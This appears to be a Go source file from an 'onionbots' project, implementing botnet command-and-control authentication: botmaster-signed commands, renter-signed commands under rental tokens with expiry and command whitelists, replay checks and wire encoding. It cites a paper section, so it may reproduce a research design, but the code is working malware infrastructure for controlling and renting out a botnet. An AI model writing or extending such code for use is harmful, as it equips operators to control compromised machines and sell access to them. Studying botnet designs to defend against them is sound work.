@@ -1,0 +1,134 @@
+package core
+
+import (
+	"crypto/ed25519"
+	"errors"
+	"fmt"
+	"time"
+
+	"onionbots/internal/botcrypto"
+)
+
+// Command is an authenticated C&C instruction. Master-issued commands
+// carry the master's signature; rented commands additionally carry a
+// botcrypto.Token and are signed by the renter (Section IV-E).
+type Command struct {
+	Name     string
+	Args     []byte
+	IssuedAt time.Time
+	Nonce    [16]byte
+	// Rental is nil for master-issued commands.
+	Rental *botcrypto.Token
+	Sig    []byte
+}
+
+// ErrCommandRejected reports a command that failed authentication.
+var ErrCommandRejected = errors.New("core: command rejected")
+
+func (c *Command) signingBytes() []byte {
+	var w writer
+	w.raw([]byte("onionbots-cmd:"))
+	w.str(c.Name)
+	w.bytes(c.Args)
+	w.u64(uint64(c.IssuedAt.Unix()))
+	w.raw(c.Nonce[:])
+	return w.buf
+}
+
+// SignMaster signs the command with the botmaster's key.
+func (c *Command) SignMaster(priv ed25519.PrivateKey) {
+	c.Rental = nil
+	c.Sig = ed25519.Sign(priv, c.signingBytes())
+}
+
+// SignRenter signs the command with a renter's key under a token. The
+// signature preimage is botcrypto's rented-command encoding, so
+// Authorize can delegate verification to botcrypto.AuthorizeRented.
+func (c *Command) SignRenter(priv ed25519.PrivateKey, token *botcrypto.Token) {
+	c.Rental = token
+	rc := botcrypto.SignRentedCommand(priv, token, c.Name, c.Args, c.IssuedAt, c.Nonce)
+	c.Sig = rc.Sig
+}
+
+// Authorize performs the full bot-side check: signature chain, rental
+// expiry and whitelist, and replay/freshness via guard (which may be
+// nil to skip replay tracking, e.g. for relays that only forward).
+func (c *Command) Authorize(masterPub ed25519.PublicKey, now time.Time,
+	guard *botcrypto.ReplayGuard) error {
+	if c.Rental == nil {
+		if !ed25519.Verify(masterPub, c.signingBytes(), c.Sig) {
+			return fmt.Errorf("%w: bad master signature", ErrCommandRejected)
+		}
+	} else {
+		rc := &botcrypto.RentedCommand{
+			Name:     c.Name,
+			Args:     c.Args,
+			IssuedAt: c.IssuedAt,
+			Nonce:    c.Nonce,
+			Token:    c.Rental,
+			Sig:      c.Sig,
+		}
+		if err := botcrypto.AuthorizeRented(masterPub, rc, now); err != nil {
+			return fmt.Errorf("%w: %v", ErrCommandRejected, err)
+		}
+	}
+	if guard != nil {
+		if err := guard.Check(c.Nonce, c.IssuedAt, now); err != nil {
+			return fmt.Errorf("%w: %v", ErrCommandRejected, err)
+		}
+	}
+	return nil
+}
+
+// Encode renders the command (including any token).
+func (c *Command) Encode() []byte {
+	var w writer
+	w.str(c.Name)
+	w.bytes(c.Args)
+	w.u64(uint64(c.IssuedAt.Unix()))
+	w.raw(c.Nonce[:])
+	w.bytes(c.Sig)
+	if c.Rental == nil {
+		w.u8(0)
+		return w.buf
+	}
+	w.u8(1)
+	w.bytes(c.Rental.RenterPub)
+	w.u64(uint64(c.Rental.Expiry.Unix()))
+	w.u16(len(c.Rental.Whitelist))
+	for _, cmd := range c.Rental.Whitelist {
+		w.str(cmd)
+	}
+	w.bytes(c.Rental.Sig)
+	return w.buf
+}
+
+// DecodeCommand parses a command payload.
+func DecodeCommand(raw []byte) (*Command, error) {
+	r := reader{buf: raw}
+	c := &Command{Name: r.str(), Args: r.bytes()}
+	c.IssuedAt = time.Unix(int64(r.u64()), 0).UTC()
+	copy(c.Nonce[:], r.raw(16))
+	c.Sig = r.bytes()
+	hasToken := r.u8()
+	if r.err != nil {
+		return nil, fmt.Errorf("%w: Command", ErrBadMessage)
+	}
+	if hasToken == 1 {
+		t := &botcrypto.Token{RenterPub: r.bytes()}
+		t.Expiry = time.Unix(int64(r.u64()), 0).UTC()
+		n := r.u16()
+		if r.err != nil || n > 1024 {
+			return nil, fmt.Errorf("%w: Command token", ErrBadMessage)
+		}
+		for i := 0; i < n; i++ {
+			t.Whitelist = append(t.Whitelist, r.str())
+		}
+		t.Sig = r.bytes()
+		if r.err != nil {
+			return nil, fmt.Errorf("%w: Command token", ErrBadMessage)
+		}
+		c.Rental = t
+	}
+	return c, nil
+}
